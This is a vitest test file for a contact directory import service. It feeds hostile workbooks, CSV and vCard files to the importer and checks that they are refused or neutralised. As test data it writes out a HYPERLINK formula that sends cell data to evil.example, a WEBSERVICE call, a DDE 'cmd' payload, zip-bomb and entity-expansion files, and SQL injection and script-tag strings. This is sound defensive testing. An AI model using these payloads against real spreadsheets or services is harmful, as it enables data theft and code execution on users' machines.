import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mostOpenImports, mostUploads } from '@brevet/contract/directory-imports';
import { messages } from '@brevet/contract/messages';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { directoryImportRows, directoryImports } from '../../schema/directory-imports.ts';
import type { TestApp } from '../../test/app.ts';
import { startTestApp } from '../../test/app.ts';
import { directoryFiles } from '../../test/directory-files.ts';
import type { TestUser } from '../../test/factories.ts';
import { packed } from '../../test/office-files.ts';
import { settled } from '../../test/settled.ts';
import { directoryImportQueue } from './import-job.ts';

let test: TestApp;
let broker: TestUser;
beforeAll(async () => {
  test = await startTestApp();
  broker = await test.make.user(30);
});
afterAll(() => test.close());
const { upload, read, check, run, rowsOf } = directoryFiles(() => ({ test, broker }));

const stored = () => Promise.all([directoryImports, directoryImportRows].map((table) => test.db.$count(table)));
/** Uploads a file that must be refused and leave nothing behind. Returns the answer. */
const answerOf = async (content: string | Uint8Array, name: string) => {
  const file = new File([new Uint8Array(Buffer.from(content))], name);
  const before = await stored();
  const { status, body } = await test.as(broker).upload('/uploadDirectoryImport?Kind=contacts', file);
  expect(await stored()).toEqual(before);
  return [status, body.code];
};
const million = 1_000_000;

describe('an account', () => {
  const add = (State: 'uploaded' | 'checked' | 'importing' | 'imported', UserID: number) =>
    test.db
      .insert(directoryImports)
      .values({ Kind: 'contacts', FileName: 'people.csv', Headings: [], State, UserID, ActorID: UserID })
      .returning({ ImportID: directoryImports.ImportID });
  const people = () => new File(['First Name,Last Name\nAda,Quist\n'], 'people.csv');
  const begin = async (ImportID: number, who = broker) =>
    test.as(who).post('/checkDirectoryImport', { ImportID, Fields: ['Firstname', 'Lastname'] });

  it("has a limited number of imports underway, so that other accounts don't wait for all of them", async () => {
    const [mine, colleague] = await Promise.all([test.make.user(30), test.make.user(30)]);
    const ImportID = await upload(people());
    for (let number = 1; number < mostOpenImports; number += 1) await add('importing', mine.UserID);
    const [last] = await add('importing', mine.UserID);
    expect(await begin(ImportID, mine)).toMatchObject({
      status: 409,
      body: { code: 'imports_under_way', message: messages.importsUnderWay(mostOpenImports) },
    });
    expect(await read(ImportID)).toMatchObject({ State: 'uploaded' });
    expect((await begin(ImportID, colleague)).status).toBe(200);
    await settled(test, directoryImportQueue);
    await test.db
      .update(directoryImports)
      .set({ State: 'imported' })
      .where(eq(directoryImports.ImportID, last?.ImportID ?? 0));
    expect((await begin(ImportID, mine)).status).toBe(200);
    await settled(test, directoryImportQueue);
  });

  it('keeps only its last uploads that were not run', async () => {
    const [mine, colleague] = await Promise.all([test.make.user(30), test.make.user(30)]);
    const [other] = await add('uploaded', colleague.UserID);
    const [run] = await add('imported', mine.UserID);
    const [first] = await add('checked', mine.UserID);
    const [second] = await add('uploaded', mine.UserID);
    for (let number = 2; number < mostUploads; number += 1) await add('uploaded', mine.UserID);
    expect((await test.as(mine).upload('/uploadDirectoryImport?Kind=contacts', people())).status).toBe(200);
    const statusOf = async (one: { ImportID: number } | undefined) =>
      (await test.as(mine).get(`/getDirectoryImport?import_id=${one?.ImportID}`)).status;
    expect(await Promise.all([other, run, first, second].map(statusOf))).toEqual([200, 200, 404, 200]);
  });
});

describe('a hostile workbook', () => {
  const workbook = (rows: string, more: Record<string, string> = {}): Uint8Array =>
    packed('excel', {
      'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${rows}</sheetData></worksheet>`,
      ...more,
    });
  const text = (value: string): string => `<c t="inlineStr"><is><t>${value}</t></is></c>`;
  const headings = `<row>${['First Name', 'Last Name', 'Email', 'Description'].map(text).join('')}</row>`;
  const ada = (email: string, rest = ''): string => `<row>${text('Ada')}${text('Sheet')}${text(email)}${rest}</row>`;
  const sheetFile = (bytes: Uint8Array) => new File([new Uint8Array(bytes)], 'people.xlsx');

  it('gives the results of its formulas and never the formulas, which CSV files neutralize', async () => {
    const formula = '<c t="str"><f>HYPERLINK("http://evil.example/?"&amp;A2,"x")</f><v>a result</v></c>';
    const unsolved = '<c><f>WEBSERVICE("http://evil.example")</f></c>';
    const rows = [
      ada('one@formula.example', formula),
      ada('two@formula.example', unsolved),
      ada('three@formula.example', text('=cmd|&apos;/c calc&apos;!A1')),
    ];
    const ImportID = await upload(sheetFile(workbook(headings + rows.join(''))));
    expect(await check(ImportID)).toMatchObject({ Rows: 3, Create: 3 });
    await run(ImportID);
    const { text: csv } = await test.as(broker).get('/getContacts?format=csv&search=formula.example');
    expect(csv).not.toMatch(/HYPERLINK|WEBSERVICE/);
    const found = await Promise.all(
      (await rowsOf(ImportID)).map(async ({ TargetID }) => {
        const { body } = await test.as(broker).get(`/getContactInfo?contact_id=${TargetID}`);
        return (body.contact_details as { Description: string }).Description;
      }),
    );
    expect(found).toEqual(['a result', '', "=cmd|'/c calc'!A1"]);
  });

  it('neutralizes cells and verdicts, so that a downloaded check runs nothing', async () => {
    const ImportID = await upload(sheetFile(workbook(`${headings}<row>${text('=1+1')}${text('@SUM(A1)')}</row>`)));
    await check(ImportID);
    const { text: csv } = await test.as(broker).get(`/directoryImportRows?import_id=${ImportID}&format=csv`);
    expect(csv).toContain("'=1+1 @SUM(A1)");
  });

  it('may have a million empty rows', { timeout: 120_000 }, async () => {
    const empty = Array.from({ length: million }, (_, at) => `<row r="${at + 2}"/>`).join('');
    const ImportID = await upload(sheetFile(workbook(`${headings}${empty}${ada('last@empty.example')}`)));
    expect(await read(ImportID)).toMatchObject({ Rows: 1 });
  });

  it('is refused if it unpacks to too much, nests without end, or declares entities', { timeout: 120_000 }, async () => {
    const zeros = `${headings}${' '.repeat(129 * 1024 * 1024)}`;
    expect(await answerOf(workbook(zeros), 'bomb.xlsx')).toEqual([413, 'file_too_complex']);
    expect(await answerOf(workbook('<a>'.repeat(10_000)), 'deep.xlsx')).toEqual([413, 'file_too_complex']);
    const doctype = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>';
    const laughs = packed('excel', { 'xl/worksheets/sheet1.xml': `${doctype}<worksheet>&b;</worksheet>` });
    expect(await answerOf(laughs, 'laughs.xlsx')).toEqual([422, 'import_file_unreadable']);
  });

  it('opens no external link, and has what its cells last showed', async () => {
    const asked: string[] = [];
    const site = createServer(({ url = '' }, answer) => {
      asked.push(url);
      answer.end();
    }).listen(0, '127.0.0.1');
    await once(site, 'listening');
    const target = `http://127.0.0.1:${(site.address() as AddressInfo).port}/book.xlsx`;
    const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath';
    const more = {
      'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook r:id="rId1"/></externalLink>',
      'xl/externalLinks/_rels/externalLink1.xml.rels': `<Relationships><Relationship Id="rId1" Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    };
    const linked = '<c t="str"><f>[1]Sheet1!$A$1</f><v>last shown</v></c>';
    const ImportID = await upload(sheetFile(workbook(headings + ada('linked@sheet.example', linked), more)));
    expect((await read(ImportID)).Columns.map(({ Samples }) => Samples[0])).toEqual([
      'Ada',
      'Sheet',
      'linked@sheet.example',
      'last shown',
    ]);
    expect(asked).toEqual([]);
    site.close();
  });

  it('is refused if its shared texts unpack to too much', { timeout: 120_000 }, async () => {
    const texts = `<sst><si><t>${' '.repeat(129 * 1024 * 1024)}</t></si></sst>`;
    const bomb = workbook(`${headings}<row><c t="s"><v>0</v></c></row>`, { 'xl/sharedStrings.xml': texts });
    expect(await answerOf(bomb, 'texts.xlsx')).toEqual([413, 'file_too_complex']);
  });

  it('is refused if it is cut off', async () => {
    const whole = workbook(headings + ada('cut@half.example'));
    expect(await answerOf(whole.subarray(0, whole.length - 40), 'cut.xlsx')).toEqual([422, 'import_file_unreadable']);
  });

  it('is refused by name if it has a password', async () => {
    const compoundFile = (stream: string) =>
      Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(1016),
        Buffer.from(stream, 'utf16le'),
        Buffer.alloc(448),
      ]);
    expect(await answerOf(compoundFile('EncryptedPackage'), 'locked.xlsx')).toEqual([422, 'file_protected']);
    expect(await answerOf(compoundFile('Workbook'), 'old.xls')).toEqual([422, 'import_file_unreadable']);
    const zip = Buffer.from(workbook(headings + ada('locked@sheet.example')));
    zip.writeUInt16LE(zip.readUInt16LE(6) | 1, 6);
    expect(await answerOf(zip, 'locked.xlsx')).toEqual([422, 'file_protected']);
  });
});

describe('a hostile CSV file', () => {
  it('may have a million empty rows', { timeout: 120_000 }, async () => {
    const lines = `Name,Email\n${'\n'.repeat(million / 2)}${',\n'.repeat(million / 2)}Ada Last,last@lines.example\n`;
    const ImportID = await upload(new File([lines], 'people.csv'));
    expect(await read(ImportID)).toMatchObject({ Rows: 1 });
    expect((await rowsOf(ImportID))[0]).toMatchObject({ Row: million + 2 });
  });

  it('may have a million rows of another length than its headings', { timeout: 120_000 }, async () => {
    const ImportID = await upload(new File([`Name\n${',\n'.repeat(million)}Ada Last,x,y\n`], 'people.csv'));
    expect(await rowsOf(ImportID)).toMatchObject([{ Row: million + 2, Name: '' }]);
    const headings = ['Name', 'Column 2', 'Column 3'];
    expect(await read(ImportID)).toMatchObject({ Rows: 1, Columns: headings.map((Heading) => ({ Heading })) });
  });

  it('is refused with many NUL characters', async () => {
    expect(await answerOf('Name,Email\nAda\u0000,x@y.example\n', 'nul.csv')).toEqual([422, 'import_file_unreadable']);
  });

  it('may have a row without end', async () => {
    const ImportID = await upload(new File([`Name,Email\n"${'Ada '.repeat(million)}`], 'open.csv'));
    expect(await check(ImportID)).toMatchObject({ Rows: 1, Errors: 1 });
  });

  it.each([
    ['UTF-16', Buffer.from('\ufeffName,Email\nZoë Šik,zoe@utf.example\n', 'utf16le')],
    ['Windows-1252', Buffer.from('Name,Email\nZo\u00eb \u008aik,zoe@latin.example\n', 'latin1')],
    ['UTF-8 with a byte order mark', Buffer.from('\ufeffName,Email\nZoë Šik,zoe@mark.example\n')],
  ])('may be in %s', async (_, bytes) => {
    const { Columns } = await read(await upload(new File([new Uint8Array(bytes)], 'people.csv')));
    expect(Columns.map(({ Heading, Samples }) => [Heading, Samples[0]])[0]).toEqual(['Name', 'Zoë Šik']);
  });

  it('may have a quotation mark that nothing closes', async () => {
    const open = `Name,Email\n"Ada${'\nAda Quist,ada@open.example'.repeat(50_000)}`;
    expect(await read(await upload(new File([open], 'quote.csv')))).toMatchObject({ Rows: 50_001 });
  });

  it('with a million columns has no more than a table can have', async () => {
    const ImportID = await upload(new File([`Name${','.repeat(million)}x\nAda Wide\n`], 'wide.csv'));
    const { Columns, Rows } = await read(ImportID);
    expect([Columns.length, Columns[0]?.Samples, Rows]).toEqual([100, ['Ada Wide'], 1]);
  });

  it('gives no more columns than a table can have, and refuses fields for others', async () => {
    const columns = Array.from({ length: 5000 }, (_, at) => `Column ${at}`).join(',');
    const ImportID = await upload(new File([`Name,${columns}\nAda Wide,${'x,'.repeat(5000)}\n`], 'wide.csv'));
    expect((await read(ImportID)).Columns).toHaveLength(100);
  });

  it('stores texts of attacks as they are', async () => {
    const attack = "'); drop table contacts; --";
    const lines = `First Name,Last Name,Email,Job Title\nAda,Attack,sql@attack.example,${attack}\nAda,Script,script@attack.example,<script>alert(1)</script>`;
    const ImportID = await upload(new File([lines], 'attack.csv'));
    expect(await check(ImportID)).toMatchObject({ Create: 2 });
    expect(await run(ImportID)).toMatchObject({ Created: 2 });
    const { text: csv } = await test.as(broker).get('/getContacts?format=csv&search=attack.example&sid=ContactId&sod=ASC');
    expect(csv).toContain("'); drop table contacts;");
  });
});

describe('a hostile vCard file', () => {
  const card = (...lines: string[]): string => ['BEGIN:VCARD', 'VERSION:4.0', ...lines, 'END:VCARD', ''].join('\r\n');

  it('may have a million empty lines, photos and properties without end', { timeout: 120_000 }, async () => {
    const photo = `PHOTO;ENCODING=b:${'QUJD'.repeat(million)}`;
    const notes = Array.from({ length: 10_000 }, (_, at) => `X-NOTE-${at}:${at}`);
    const content =
      card('FN:First Card') + '\r\n'.repeat(million) + card('FN:Ada Card', 'EMAIL:ada@lines.example', photo, ...notes);
    const ImportID = await upload(new File([content], 'people.vcf'));
    expect(await check(ImportID)).toMatchObject({ Rows: 2, Create: 2 });
  });

  it('may fold a line without end, have a photo of 10 MB and a long line without a value', { timeout: 120_000 }, async () => {
    const folded = `NOTE:${'\r\n a'.repeat(million)}`;
    const photo = `PHOTO;ENCODING=b;TYPE=JPEG:${`\r\n ${'QUJD'.repeat(18)}`.repeat(140_000)}`;
    const content = [
      card('FN:Ada Folded', folded),
      card('FN:Ada Photo', photo, 'EMAIL:photo@card.example'),
      card('FN:Ada Line', 'a'.repeat(4 * million), 'EMAIL:line@card.example'),
    ];
    const ImportID = await upload(new File(content, 'people.vcf'));
    await check(ImportID);
    expect((await rowsOf(ImportID)).map(({ Name, Verdict, Reason }) => [Name, Verdict, Reason.split(':')[0]])).toEqual([
      ['Ada Folded', 'error', 'Description'],
      ['Ada Photo', 'create', ''],
      ['Ada Line', 'create', 'Not imported'],
    ]);
  });

  it('may nest cards, and have another character set than it says', async () => {
    const nested = card('FN:Ada Outer', 'AGENT:BEGIN:VCARD\\nFN:Ada Agent\\nEND:VCARD\\n', 'EMAIL:outer@card.example');
    const deep = `${'BEGIN:VCARD\r\n'.repeat(1000)}FN:Ada Deep\r\n${'END:VCARD\r\n'.repeat(1000)}`;
    const latin = card('FN;CHARSET=UTF-8:Zo\u00eb Latin', 'EMAIL:zoe@card.example');
    const bytes = Buffer.from(nested + deep + latin, 'latin1');
    const ImportID = await upload(new File([new Uint8Array(bytes)], 'people.vcf'));
    expect(await check(ImportID)).toMatchObject({ Rows: 1002, Create: 3, Errors: 999 });
    const { body } = await test.as(broker).get(`/directoryImportRows?import_id=${ImportID}&Verdict=create`);
    expect((body.data as { Name: string }[]).map(({ Name }) => Name)).toEqual(['Ada Outer', 'Ada Deep', 'Zoë Latin']);
  });

  it('is refused with too many cards', async () => {
    expect(await answerOf('BEGIN:VCARD\nFN:A B\nEND:VCARD\n'.repeat(100_001), 'many.vcf')).toEqual([413, 'import_file_too_long']);
  });

  it('may be cut off, repeat its beginning and have no name', async () => {
    const content = `BEGIN:VCARD\r\nBEGIN:VCARD\r\n${card('EMAIL:nameless@card.example')}BEGIN:VCARD\r\nFN:Cut Off\r\nEMAIL:cut@card.exam`;
    const ImportID = await upload(new File([content], 'people.vcf'));
    expect(await check(ImportID)).toMatchObject({ Rows: 4, Create: 1, Errors: 3 });
    expect((await rowsOf(ImportID)).at(-1)).toMatchObject({ Name: 'Cut Off', Verdict: 'create' });
  });
});
